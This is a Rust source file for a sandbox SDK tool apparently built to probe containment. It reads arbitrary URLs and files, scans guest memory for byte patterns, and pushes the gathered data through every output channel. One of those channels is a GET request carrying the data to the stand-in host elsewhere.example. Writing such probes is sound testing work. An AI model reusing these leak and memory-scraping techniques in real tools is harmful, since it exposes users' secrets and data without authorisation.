//! Gets hold of whatever it can, and tells it in every way there is.

use std::io::Read as _;

use ringfence_sdk::http::{Method, Request};
use ringfence_sdk::prelude::*;
use ringfence_sdk::serde_json::json;
use ringfence_sdk::{context, log, memory};

#[derive(Deserialize, JsonSchema)]
pub(crate) struct Tell {
    #[serde(default)]
    method: Option<String>,
    /// What to ask, one after the other; the heads and bodies of the answers are told.
    #[serde(default)]
    urls: Vec<String>,
    #[serde(default)]
    headers: Vec<(String, String)>,
    /// A file to tell as well.
    #[serde(default)]
    path: Option<String>,
    #[serde(default)]
    ways: Vec<Way>,
    /// To be looked for in all of the guest's memory, each byte plus one: so that it is not there
    /// because it was asked for.
    #[serde(default)]
    search: Vec<Vec<u8>>,
    #[serde(default)]
    end: End,
}

#[derive(Clone, Copy, Deserialize, JsonSchema)]
#[serde(rename_all = "kebab-case")]
enum Way {
    Print,
    Log,
    Progress,
    Emit,
    /// Into its memory, as a key and as a value.
    Remember,
    /// As the name of a file, a bucket and a host that it may not have.
    Ask,
}

#[derive(Default, Deserialize, JsonSchema)]
#[serde(rename_all = "kebab-case")]
enum End {
    #[default]
    Return,
    Fail,
    Panic,
}

/// Asks, tells, and says what it told.
#[tool(effect = "unsafe")]
pub(crate) fn tell(args: Tell) -> Result<Output> {
    let mut told: Vec<String> = args.urls.iter().map(|url| ask(&args, url)).collect();
    if let Some(path) = &args.path {
        told.push(std::fs::read_to_string(path).unwrap_or_else(|error| format!("error: {error}")));
    }
    let told = told.join("\n");
    for way in &args.ways {
        match way {
            Way::Print => eprintln!("{told}"),
            Way::Log => log::warn(&told),
            Way::Progress => context::progress_with(1, 2, &told),
            Way::Emit => context::emit(told.clone()),
            Way::Remember => {
                let bucket = memory::open("user")?;
                bucket.set("told", &told)?;
                // A key has its own limit.
                let key: String = told.chars().filter(char::is_ascii_graphic).take(200).collect();
                bucket.set(&key, "told")?;
            }
            Way::Ask => {
                let words: String = told.chars().filter(char::is_ascii_graphic).take(500).collect();
                let _ = std::fs::read(format!("/elsewhere/{words}"));
                let _ = memory::open(&words);
                let _ =
                    Request::new(Method::Get, format!("https://elsewhere.example/?{words}")).send();
            }
        }
    }
    let found: Vec<usize> = args.search.iter().map(|needle| search(needle)).collect();
    match args.end {
        End::Return => {
            let structured = json!({ "told": &told, "found": found });
            Ok(Output::new().text(told).structured(structured))
        }
        End::Fail => Err(Error::failed(told)),
        End::Panic => panic!("{told}"),
    }
}

/// One request; all that there is of its answer.
fn ask(args: &Tell, url: &str) -> String {
    let method = match args.method.as_deref() {
        None => Method::Get,
        Some(other) => Method::Other(other.to_owned()),
    };
    let mut request = Request::new(method, url);
    for (name, value) in &args.headers {
        request = request.header(name.as_str(), value.as_str());
    }
    let mut response = match request.send() {
        Ok(response) => response,
        Err(error) => return format!("error: {error}"),
    };
    let mut said = response.status.to_string();
    for (name, value) in response.headers.iter() {
        said += &format!(" {name}={}", String::from_utf8_lossy(value));
    }
    let mut body = Vec::new();
    match response.body.read_to_end(&mut body) {
        Ok(_) => said + " " + &String::from_utf8_lossy(&body),
        Err(error) => format!("{said} error: {error}"),
    }
}

/// How often the needle stands in this guest's memory, from its first byte to its last.
#[cfg(target_arch = "wasm32")]
fn search(needle: &[u8]) -> usize {
    const PAGE: usize = 64 << 10;
    let upto = (core::arch::wasm32::memory_size(0) * PAGE).saturating_sub(needle.len());
    // SAFETY: every address below the size is there. Volatile, since the compiler knows better than
    // that memory nobody owns may hold anything.
    #[expect(unsafe_code, reason = "see above")]
    let byte = |at: usize| unsafe { (at as *const u8).read_volatile() };
    let here =
        |at: usize| needle.iter().enumerate().all(|(i, n)| byte(at + i).wrapping_add(1) == *n);
    (1..upto).filter(|at| here(*at)).count()
}

#[cfg(not(target_arch = "wasm32"))]
fn search(_: &[u8]) -> usize {
    0
}
